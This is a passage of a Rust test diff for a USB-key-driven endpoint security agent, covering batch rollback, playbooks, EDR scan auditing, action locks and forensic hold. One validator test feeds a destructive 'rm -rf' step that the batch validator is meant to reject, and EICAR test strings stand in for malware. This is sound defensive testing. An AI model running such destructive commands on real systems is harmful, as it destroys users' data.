+                _profile: observer::platform::NetworkProfile,
+            ) -> Result<Vec<PlatformCommand>> {
+                Ok(vec![])
+            }
+            fn usb_policy_commands(
+                &self,
+                _policy: observer::platform::UsbPolicy,
+            ) -> Result<Vec<PlatformCommand>> {
+                Ok(vec![])
+            }
+            fn shutdown_commands(&self) -> Result<Vec<PlatformCommand>> {
+                Ok(vec![])
+            }
+            fn posture_probes(&self) -> Vec<ProbeConfig> {
+                vec![]
+            }
+            fn process_list_command(&self) -> PlatformCommand {
+                PlatformCommand::new("echo", &["fake-process-list"])
+            }
+            fn firewall_rules_command(&self) -> (PlatformCommand, &'static str) {
+                LinuxPlatform.firewall_rules_command()
+            }
+            fn script_directory_name(&self) -> &'static str {
+                "fake"
+            }
+            fn script_path(&self, script_directory: &str, script_name: &str) -> String {
+                format!("{}/{}.fake", script_directory, script_name)
+            }
+            fn script_command(&self, script_path: &str) -> PlatformCommand {
+                LinuxPlatform.script_command(script_path)
+            }
+            fn evidence_script(&self) -> &'static str {
+                "Evidence"
+            }
+            async fn list_sessions(&self) -> Result<Vec<UserSession>> {
+                Ok(vec![UserSession {
+                    id: "c1".to_string(),
+                    user: "operator".to_string(),
+                    seat: Some("seat0".to_string()),
+                    active: true,
+                    locked: true,
+                }])
+            }
+        }
+
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("LockScreen.fake");
+        std::fs::write(&script, "#!/bin/sh\necho locked\n")?;
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+        let handler = CommandHandler::new(script_dir.path().to_string_lossy().to_string())
+            .with_platform(Arc::new(FakePlatform));
+
+        let status = handler.handle_command("CHECK_STATUS").await;
+        assert_eq!(status.code, ResultCode::Ok);
+        assert!(status.data["processes"]
+            .as_str()
+            .unwrap()
+            .contains("fake-process-list"));
+        assert_eq!(status.data["console_user"]["user"], "operator");
+
+        assert!(handler.is_script_exists("LockScreen"));
+        let locked = handler.handle_command("LOCK_SCREEN").await;
+        assert_eq!(locked.code, ResultCode::Ok);
+        let evidence = handler.handle_command("COLLECT_EVIDENCE").await;
+        assert_eq!(evidence.code, ResultCode::ScriptNotFound);
+        assert_eq!(evidence.data["script"], "Evidence");
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_outbox_holds_results_and_audit_records_until_sinks_recover() -> Result<()> {
+        use observer::connector::FaultInjectingDevice;
+        use observer::outbox::Outgoing;
+        use std::io::ErrorKind;
+
+        let dir = tempfile::tempdir()?;
+        // The audit log's directory is missing, as if its volume were not mounted.
+        let audit_path = dir.path().join("audit").join("audit.jsonl");
+        let outbox = Arc::new(Outbox::open(dir.path().join("outbox")).await?);
+        let audit_log = Arc::new(AuditLog::new(&audit_path).with_outbox(Arc::clone(&outbox)));
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::clone(&audit_log))
+        .with_outbox(Arc::clone(&outbox));
+        let faulty =
+            FaultInjectingDevice::new(Box::new(MockDevice::new(b"test_key_data".to_vec())));
+        let faults = faulty.faults();
+        let mut usb_key = UsbKey::new(Box::new(faulty), "test_key_id".to_string());
+        usb_key.initialize().await?;
+
+        faults.fail_next_writes(1, ErrorKind::NotConnected);
+        let result = dispatcher.dispatch(&usb_key, None, "LIST_COMMANDS").await;
+        assert_eq!(result.code, ResultCode::Ok);
+
+        // Both outcomes survive a restart.
+        let reopened = Outbox::open(dir.path().join("outbox"))
+            .await?
+            .pending()
+            .await;
+        assert_eq!(reopened.len(), 2);
+        assert!(matches!(
+            &reopened[0].message,
+            Outgoing::Audit { record } if record.command == "LIST_COMMANDS"
+        ));
+        assert!(matches!(
+            &reopened[1].message,
+            Outgoing::Result { result: spooled, .. } if *spooled == result
+        ));
+
+        // A different key does not get the result.
+        let other_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        assert_eq!(dispatcher.deliver_outbox(&other_key).await, 0);
+
+        std::fs::create_dir_all(audit_path.parent().unwrap())?;
+        let writes = usb_key.metrics().writes;
+        assert_eq!(dispatcher.deliver_outbox(&usb_key).await, 1);
+        assert_eq!(usb_key.metrics().writes, writes + 1);
+        assert!(outbox.pending().await.is_empty());
+        let records = audit_log.read_all().await?;
+        assert_eq!(records.len(), 1);
+        assert_eq!(records[0].command, "LIST_COMMANDS");
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_training_key_never_executes() -> Result<()> {
+        use observer::connector::{HostSection, KeyRole, MultiHostKey};
+
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let marker = script_dir.path().join("executed");
+        let script = script_dir.path().join("AllowNetwork.sh");
+        std::fs::write(
+            &script,
+            format!("#!/bin/bash\ntouch {}\n", marker.display()),
+        )?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+        assert_eq!(dispatcher.mode(), EnforcementMode::Enforce);
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        let key = MultiHostKey::parse(
+            br#"{"hosts": {"host-a": {
+                "credential": "secret",
+                "role": "training",
+                "allowed_commands": ["ALLOW_NETWORK"]
+            }}}"#,
+        )
+        .unwrap();
+        let mut training = key.section("host-a")?.clone();
+        assert_eq!(training.role, KeyRole::Training);
+
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut training), "ALLOW_NETWORK")
+            .await;
+        assert_eq!(result.code, ResultCode::Observed);
+        assert_eq!(result.data["training"], true);
+        assert!(!marker.exists(), "a training key must not run scripts");
+        assert_eq!(dispatcher.posture().await, Default::default());
+
+        // Other keys still execute on the same host.
+        let mut operator = HostSection {
+            allowed_commands: vec!["ALLOW_NETWORK".to_string()],
+            ..Default::default()
+        };
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut operator), "ALLOW_NETWORK")
+            .await;
+        assert_eq!(result.code, ResultCode::Ok);
+        assert!(marker.exists());
+
+        let modes: Vec<String> = AuditLog::new(&audit_path)
+            .read_all()
+            .await?
+            .into_iter()
+            .map(|record| record.mode)
+            .collect();
+        assert_eq!(modes, vec!["training", "enforce"]);
+        Ok(())
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_health_reports_most_severe_condition() -> Result<()> {
+        let health = Health::new();
+        assert_eq!(health.state(), HealthState::Ok);
+        health.raise(HealthState::DegradedNoDevice, "no key");
+        health.raise(HealthState::StorageFailure, "disk full");
+        assert_eq!(health.state(), HealthState::StorageFailure);
+        assert_eq!(health.report().exit_code, 74);
+        health.clear(HealthState::StorageFailure);
+        assert_eq!(health.state(), HealthState::DegradedNoDevice);
+
+        let error = Err::<(), _>(anyhow!("bad json"))
+            .context(HealthState::PolicyError)
+            .unwrap_err();
+        assert_eq!(HealthState::exit_code_of(&error), 78);
+        assert_eq!(HealthState::exit_code_of(&anyhow!("other")), 1);
+
+        let dir = tempfile::tempdir()?;
+        let socket_path = dir.path().join("guardian.sock");
+        let shutdown = ShutdownToken::new();
+        let server = tokio::spawn(serve_control_socket(
+            ControlSocket::new(&socket_path, shutdown.child()),
+            health.clone(),
+            Arc::new(CommandDispatcher::new(
+                CommandHandler::new(dir.path().to_string_lossy().to_string()),
+                "host-a".to_string(),
+            )),
+            shutdown.child(),
+        ));
+        let mut report = None;
+        for _ in 0..50 {
+            if let Ok(output) = file_monitor_core::ctl::send(&socket_path, "health").await {
+                report = Some(serde_json::from_str::<serde_json::Value>(&output)?);
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        let report = report.expect("control socket did not come up");
+        assert_eq!(report["state"], "degraded_no_device");
+        assert_eq!(report["conditions"][0]["detail"], "no key");
+        let metrics = file_monitor_core::ctl::send(&socket_path, "metrics").await?;
+        assert!(metrics.contains("guardian_health{state=\"degraded_no_device\"} 1"));
+        assert!(metrics.contains("guardian_health{state=\"ok\"} 0"));
+
+        shutdown.cancel();
+        server.await??;
+        Ok(())
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_edr_scans_are_audited() -> Result<()> {
+        use observer::edr::{EdrAgent, EdrVerdict, FILE_MONITOR_TRIGGER};
+        use std::os::unix::fs::PermissionsExt;
+
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let block = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(&block, "#!/bin/bash\nexit 0\n")?;
+        std::fs::set_permissions(&block, std::fs::Permissions::from_mode(0o755))?;
+        let scanner = script_dir.path().join("scan.sh");
+        std::fs::write(
+            &scanner,
+            "#!/bin/bash\n[ -e \"$1\" ] || exit 2\n\
+             if grep -rq EICAR \"$1\"; then echo \"EICAR in $1\"; exit 1; fi\n\
+             echo clean\n",
+        )?;
+        std::fs::set_permissions(&scanner, std::fs::Permissions::from_mode(0o755))?;
+        let watched = tempfile::tempdir()?;
+        let config = EdrConfig {
+            agent: EdrAgent::Command {
+                program: scanner.to_string_lossy().to_string(),
+                args: vec!["{path}".to_string()],
+                detected_exit_codes: vec![1],
+            },
+            scan_after: vec!["BLOCK_NETWORK".to_string()],
+            scan_root: watched.path().to_path_buf(),
+            watch_paths: vec![watched.path().to_path_buf()],
+            timeout_secs: 10,
+        };
+        let dispatcher = Arc::new(
+            CommandDispatcher::new(
+                CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+                "host-a".to_string(),
+            )
+            .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+            .with_edr(EdrIntegration::new(config.clone(), "host-a")),
+        );
+
+        let clean = watched.path().join("clean.txt");
+        std::fs::write(&clean, "nothing to see")?;
+        let outcome = dispatcher.edr_scan(&clean, "test", "TEST").await.unwrap();
+        assert_eq!(outcome.verdict, EdrVerdict::Clean);
+        // Placeholders in the path itself are not expanded.
+        let braced = watched.path().join("{reason}.txt");
+        std::fs::write(&braced, "nothing to see")?;
+        let outcome = dispatcher.edr_scan(&braced, "test", "TEST").await.unwrap();
+        assert_eq!(outcome.verdict, EdrVerdict::Clean);
+        let missing = watched.path().join("missing.txt");
+        let outcome = dispatcher.edr_scan(&missing, "test", "TEST").await.unwrap();
+        assert_eq!(outcome.verdict, EdrVerdict::Failed);
+        assert!(outcome.detail.contains("exit status: 2"));
+
+        // The whole scan root is scanned after a listed command.
+        std::fs::write(watched.path().join("dropper.bin"), "EICAR")?;
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        dispatcher.dispatch(&usb_key, None, "BLOCK_NETWORK").await;
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        let scan = records.last().unwrap();
+        assert_eq!(scan.command, "EDR_SCAN");
+        assert_eq!(scan.trigger.as_deref(), Some("HOOK:BLOCK_NETWORK"));
+        assert!(scan.human_message.contains("detected: EICAR in"));
+
+        // Files written under the watched paths are scanned as they change.
+        let shutdown = ShutdownToken::new();
+        let watch = tokio::spawn(scan_monitored_files(
+            Arc::clone(&dispatcher),
+            shutdown.clone(),
+        ));
+        let payload = watched.path().join("payload.sh");
+        let mut scanned = None;
+        for _ in 0..30 {
+            std::fs::write(&payload, "EICAR")?;
+            tokio::time::sleep(Duration::from_millis(500)).await;
+            let records = AuditLog::new(&audit_path).read_all().await?;
+            scanned = records.into_iter().find(|record| {
+                record.trigger.as_deref() == Some(FILE_MONITOR_TRIGGER)
+                    && record.human_message.contains("payload.sh")
+            });
+            if scanned.is_some() {
+                break;
+            }
+        }
+        let scanned = scanned.expect("no scan of the written file was audited");
+        assert!(scanned.human_message.contains("detected"));
+        shutdown.cancel();
+        watch.await??;
+
+        // Outside enforcement mode the scan is only recorded.
+        let observing = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_mode(EnforcementMode::Observe)
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_edr(EdrIntegration::new(config, "host-a"));
+        assert!(observing.edr_scan(&clean, "test", "TEST").await.is_none());
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert!(records
+            .last()
+            .unwrap()
+            .human_message
+            .ends_with("skipped in observe mode"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_failed_batch_reverts_earlier_steps() -> Result<()> {
+        use observer::batch::{
+            BatchRejection, KeyBatches, SignedBatch, BATCH_FILE_NAME, BATCH_ROLLBACK_TRIGGER,
+        };
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let ledger_path = state_dir.path().join("batches.json");
+        let script_dir = tempfile::tempdir()?;
+        // No LockScreen.sh, so the last step fails.
+        for script in ["BlockNetwork", "AllowNetwork", "LockUSB", "UnlockUSB"] {
+            let script = script_dir.path().join(format!("{}.sh", script));
+            std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+            #[cfg(unix)]
+            {
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+            }
+        }
+        let key = derive_purpose_key(
+            &master_secret(b"test_key_data"),
+            KeyPurpose::CommandSigning,
+            0,
+        )?;
+        let key_batches = KeyBatches::open("host-a", key, &ledger_path).await?;
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+
+        let batch = SignedBatch::sign(
+            "host-a",
+            "b-1",
+            &["BLOCK_NETWORK", "LOCK_USB", "LOCK_SCREEN"],
+            &key,
+        );
+        let usb_key = UsbKey::new(
+            Box::new(
+                MockDevice::new(b"test_key_data".to_vec())
+                    .with_file(BATCH_FILE_NAME, &serde_json::to_vec(&batch)?),
+            ),
+            "test_key_id".to_string(),
+        );
+        let result = key_batches
+            .process(&usb_key, None, &dispatcher)
+            .await
+            .expect("the key carries a batch");
+        assert_eq!(result.code, ResultCode::ScriptNotFound);
+        assert_eq!(result.data["failed_step"], 2);
+        assert_eq!(
+            result.data["rolled_back"],
+            serde_json::json!(["LOCK_USB", "BLOCK_NETWORK"])
+        );
+        let posture = dispatcher.posture().await;
+        assert_eq!(posture.network_blocked, Some(false));
+        assert_eq!(posture.usb_locked, Some(false));
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        let commands: Vec<_> = records.iter().map(|r| r.command.as_str()).collect();
+        assert_eq!(
+            commands,
+            [
+                "BLOCK_NETWORK",
+                "LOCK_USB",
+                "LOCK_SCREEN",
+                "UNLOCK_USB",
+                "ALLOW_NETWORK"
+            ]
+        );
+        let rollback_trigger = format!("{}:b-1", BATCH_ROLLBACK_TRIGGER);
+        assert_eq!(records[0].trigger.as_deref(), Some("BATCH:b-1"));
+        assert_eq!(
+            records[4].trigger.as_deref(),
+            Some(rollback_trigger.as_str())
+        );
+
+        // A batch left on the key runs once.
+        assert!(key_batches
+            .process(&usb_key, None, &dispatcher)
+            .await
+            .is_none());
+
+        // A batch with an invalid step is refused before anything runs.
+        let invalid = SignedBatch::sign("host-a", "b-2", &["BLOCK_NETWORK", "rm -rf"], &key);
+        key_batches.validate(&invalid).await.unwrap();
+        let result = dispatcher.dispatch_batch(&usb_key, None, &invalid).await;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+        assert_eq!(result.data["reason"], "INVALID_STEP");
+        assert_eq!(AuditLog::new(&audit_path).read_all().await?.len(), 6);
+
+        let mut tampered = SignedBatch::sign("host-a", "b-3", &["ALLOW_NETWORK"], &key);
+        tampered.commands.push("UNLOCK_USB".to_string());
+        assert_eq!(
+            key_batches.validate(&tampered).await,
+            Err(BatchRejection::BadSignature)
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_playbook_runs_steps_with_conditions() -> Result<()> {
+        use observer::playbook::PlaybookConfig;
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let baseline_path = state_dir.path().join("baseline.json");
+        let data_dir = tempfile::tempdir()?;
+        std::fs::write(data_dir.path().join("report.txt"), "q3")?;
+        let script_dir = tempfile::tempdir()?;
+        // No LockScreen.sh, so that step fails.
+        for script in ["BlockNetwork", "AllowNetwork", "UnlockUSB"] {
+            let script = script_dir.path().join(format!("{}.sh", script));
+            std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+            #[cfg(unix)]
+            {
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+            }
+        }
+        let config: PlaybookConfig = serde_json::from_value(serde_json::json!({
+            "playbooks": [{
+                "name": "lockdown",
+                "steps": [
+                    { "action": "command", "command": "BLOCK_NETWORK" },
+                    { "action": "baseline", "paths": [data_dir.path()], "output": baseline_path },
+                    { "action": "command", "command": "LOCK_SCREEN" },
+                    { "action": "command", "command": "UNLOCK_USB" },
+                    { "action": "verify_baseline", "baseline": baseline_path, "when": "failure" },
+                    {
+                        "action": "command",
+                        "command": "ALLOW_NETWORK",
+                        "when": "always",
+                        "conditions": { "subnet": "203.0.113.0/24" }
+                    }
+                ]
+            }]
+        }))?;
+        config.validate(&NativeCommands::default())?;
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_playbooks(config.clone());
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let result = dispatcher
+            .dispatch_raw(&usb_key, None, b"RUN_PLAYBOOK lockdown")
+            .await;
+        assert_eq!(result.code, ResultCode::ScriptNotFound);
+        let outcomes: Vec<_> = result.data["steps"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|step| step["outcome"].as_str().unwrap())
+            .collect();
+        assert_eq!(outcomes, ["ok", "ok", "failed", "skipped", "ok", "skipped"]);
+        assert!(baseline_path.exists());
+        assert_eq!(dispatcher.posture().await.network_blocked, Some(true));
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 5);
+        assert!(records[..4]
+            .iter()
+            .all(|record| record.trigger.as_deref() == Some("PLAYBOOK:lockdown")));
+        assert_eq!(records[2].command, "LOCK_SCREEN");
+        assert_eq!(records[4].command, "RUN_PLAYBOOK lockdown");
+
+        let result = dispatcher
+            .dispatch_unattended("RUN_PLAYBOOK missing", "CONTROL_SOCKET")
+            .await;
+        assert_eq!(result.code, ResultCode::UnknownCommand);
+
+        let mut nested = config.clone();
+        nested.playbooks[0].steps[0].action = observer::playbook::PlaybookAction::Command {
+            command: "RUN_PLAYBOOK lockdown".to_string(),
+        };
+        assert!(nested.validate(&NativeCommands::default()).is_err());
+        let mut unknown_alert = config;
+        unknown_alert.playbooks[0].on_alert = vec!["mass-delete".to_string()];
+        assert!(unknown_alert.validate(&NativeCommands::default()).is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_playbook_steps_are_permitted_approved_and_scheduled() -> Result<()> {
+        use observer::playbook::PlaybookConfig;
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        for script in ["BlockNetwork", "UnlockUSB", "LockUSB"] {
+            let script = script_dir.path().join(format!("{}.sh", script));
+            std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+            #[cfg(unix)]
+            {
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+            }
+        }
+        let config: PlaybookConfig = serde_json::from_value(serde_json::json!({
+            "playbooks": [{
+                "name": "release",
+                "steps": [
+                    { "action": "command", "command": "UNLOCK_USB" },
+                    { "action": "command", "command": "LOCK_USB", "when": "always", "delay_secs": 600 },
+                    { "action": "command", "command": "BLOCK_NETWORK" }
+                ]
+            }]
+        }))?;
+        config.validate(&NativeCommands::default())?;
+        let policy = ApprovalPolicy {
+            commands: vec!["UNLOCK_USB".to_string()],
+            admins: vec!["alice".to_string()],
+            timeout_secs: 1,
+        };
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_local_approval(policy, Arc::new(FixedApproval(ApprovalOutcome::TimedOut)))
+        .with_playbooks(config.clone());
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        // From the control socket, the gated step still needs approval, and the delayed
+        // step is scheduled instead of holding up the rest.
+        let started = std::time::Instant::now();
+        let result = dispatcher
+            .dispatch_unattended("RUN_PLAYBOOK release", "CONTROL_SOCKET")
+            .await;
+        assert!(started.elapsed() < std::time::Duration::from_secs(60));
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+        let outcomes: Vec<_> = result.data["steps"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|step| step["outcome"].as_str().unwrap())
+            .collect();
+        assert_eq!(outcomes, ["failed", "scheduled", "skipped"]);
+        assert_eq!(dispatcher.posture().await.usb_locked, None);
+        let scheduled = dispatcher.scheduled_commands().await;
+        assert_eq!(scheduled.len(), 1);
+        assert_eq!(scheduled[0].command, "LOCK_USB");
+        assert_eq!(scheduled[0].trigger, "PLAYBOOK:release");
+        let later = chrono::Local::now() + chrono::Duration::minutes(11);
+        assert_eq!(dispatcher.run_due_commands(later).await, 1);
+        assert_eq!(dispatcher.posture().await.usb_locked, Some(true));
+
+        // A key allowed to run the playbook runs only the steps it is allowed itself.
+        let mut section = HostSection {
+            credential: "secret".to_string(),
+            allowed_commands: vec![
+                "RUN_PLAYBOOK release".to_string(),
+                "BLOCK_NETWORK".to_string(),
+            ],
+            ..Default::default()
+        };
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut section), "RUN_PLAYBOOK release")
+            .await;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+        assert!(result.data["steps"][0]["human_message"]
+            .as_str()
+            .unwrap()
+            .contains("not permitted"));
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert!(records
+            .iter()
+            .filter(|record| record.command == "UNLOCK_USB")
+            .all(|record| !record.executed));
+        let relock = records
+            .iter()
+            .find(|record| record.command == "LOCK_USB")
+            .unwrap();
+        assert!(relock.executed);
+        assert_eq!(relock.trigger.as_deref(), Some("PLAYBOOK:release"));
+
+        let mut delayed_baseline = config;
+        delayed_baseline.playbooks[0].steps[0].action =
+            observer::playbook::PlaybookAction::VerifyBaseline {
+                baseline: state_dir.path().join("baseline.json"),
+            };
+        delayed_baseline.playbooks[0].steps[0].delay_secs = 5;
+        assert!(delayed_baseline
+            .validate(&NativeCommands::default())
+            .is_err());
+        Ok(())
+    }
+
+    fn lock_config(path: &Path) -> Result<ActionLockConfig> {
+        Ok(serde_json::from_value(serde_json::json!({
+            "path": path,
+            "on_busy": "fail",
+        }))?)
+    }
+
+    #[tokio::test]
+    async fn test_action_lock_held_by_another_agent_refuses_command() -> Result<()> {
+        use observer::action_lock::BusyPolicy;
+
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let lock_path = state_dir.path().join("posture.lock");
+        let marker = state_dir.path().join("blocked");
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(
+            &script,
+            format!("#!/bin/bash\ntouch {}\n", marker.display()),
+        )?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+        let config: ActionLockConfig = serde_json::from_value(serde_json::json!({
+            "path": lock_path,
+            "on_busy": "fail",
+        }))?;
+        assert_eq!(config.on_busy, BusyPolicy::Fail);
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_action_lock(ActionLock::new(config, "guardian"));
+
+        // Configuration management is changing the firewall right now.
+        let puppet = std::fs::File::create(&lock_path)?;
+        puppet.lock()?;
+        std::fs::write(
+            &lock_path,
+            serde_json::to_vec(&serde_json::json!({
+                "agent": "puppet",
+                "pid": std::process::id(),
+                "command": "apply firewall"
+            }))?,
+        )?;
+        let result = dispatcher
+            .dispatch_unattended("BLOCK_NETWORK", "TEST")
+            .await;
+        assert_eq!(result.code, ResultCode::ActionLocked);
+        assert_eq!(result.data["lock_holder"]["agent"], "puppet");
+        assert!(!marker.exists());
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.last().unwrap().code, ResultCode::ActionLocked);
+
+        // Commands the lock does not cover are not held up.
+        let result = dispatcher
+            .dispatch_unattended("LIST_COMMANDS", "TEST")
+            .await;
+        assert_ne!(result.code, ResultCode::ActionLocked);
+
+        // What puppet wrote stays behind, but its lock went with it.
+        drop(puppet);
+        let lock = ActionLock::new(lock_config(&lock_path)?, "guardian");
+        assert!(lock.holder().is_none());
+        let result = dispatcher
+            .dispatch_unattended("BLOCK_NETWORK", "TEST")
+            .await;
+        assert!(result.is_success(), "{}", result.human_message);
+        assert!(marker.exists());
+        // Released once the command is done.
+        assert!(lock.holder().is_none());
+        assert!(std::fs::read(&lock_path)?.is_empty());
+
+        // A lock that cannot be taken refuses the command instead of running it unlocked.
+        std::fs::remove_file(&marker)?;
+        let missing = state_dir.path().join("missing").join("posture.lock");
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_action_lock(ActionLock::new(lock_config(&missing)?, "guardian"));
+        let result = dispatcher
+            .dispatch_unattended("BLOCK_NETWORK", "TEST")
+            .await;
+        assert_eq!(result.code, ResultCode::ActionLocked);
+        assert!(result.data["lock_error"].is_string());
+        assert!(!marker.exists());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_forensics_key_freezes_posture_until_ended() -> Result<()> {
+        use observer::connector::{HostSection, KeyRole};
+
+        let state_dir = tempfile::tempdir()?;
+        let watched = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let state_path = state_dir.path().join("forensics.json");
+        let event_log = state_dir.path().join("forensic-events.jsonl");
+        let marker = state_dir.path().join("blocked");
+        let script_dir = tempfile::tempdir()?;
+        let script = script_dir.path().join("BlockNetwork.sh");
+        std::fs::write(
+            &script,
+            format!("#!/bin/bash\ntouch {}\n", marker.display()),
+        )?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+        let config = ForensicConfig {
+            watch_paths: vec![watched.path().to_path_buf()],
+            event_log: event_log.clone(),
+        };
+        let forensics = Arc::new(ForensicMode::open(
+            config.clone(),
+            &state_path,
+            ShutdownToken::new(),
+        )?);
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_forensics(Arc::clone(&forensics));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        let mut operator = HostSection {
+            credential: "secret".to_string(),
+            allowed_commands: vec![
+                "BLOCK_NETWORK".to_string(),
+                "CHECK_STATUS".to_string(),
+                "END_FORENSICS".to_string(),
+            ],
+            ..Default::default()
+        };
+        let mut investigator = HostSection {
+            credential: "secret".to_string(),
+            role: KeyRole::Forensics,
+            allowed_commands: vec!["END_FORENSICS".to_string()],
+            ..Default::default()
+        };
+
+        assert!(dispatcher
+            .enter_forensics(&usb_key, Some(&operator))
+            .await
+            .is_none());
+        let result = dispatcher
+            .enter_forensics(&usb_key, Some(&investigator))
+            .await
+            .unwrap();
+        assert!(result.is_success(), "{}", result.human_message);
+        assert!(state_path.exists());
+
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut operator), "BLOCK_NETWORK")
+            .await;
+        assert_eq!(result.code, ResultCode::ForensicHold);
+        assert!(!marker.exists());
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut operator), "CHECK_STATUS")
+            .await;
+        assert_ne!(result.code, ResultCode::ForensicHold);
+        let result = dispatcher
+            .dispatch(&usb_key, Some(&mut operator), "END_FORENSICS")
+            .await;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+
+        // The paths are watched and every event is kept.
+        let dropped = watched.path().join("dropper.sh");
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        loop {
+            std::fs::write(&dropped, b"#!/bin/sh\n")?;
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            let log = std::fs::read_to_string(&event_log).unwrap_or_default();
+            if log.contains("dropper.sh") {
+                break;
+            }
+            assert!(std::time::Instant::now() < deadline, "no forensic event");
+        }
+
+        // A restart does not end forensic mode.
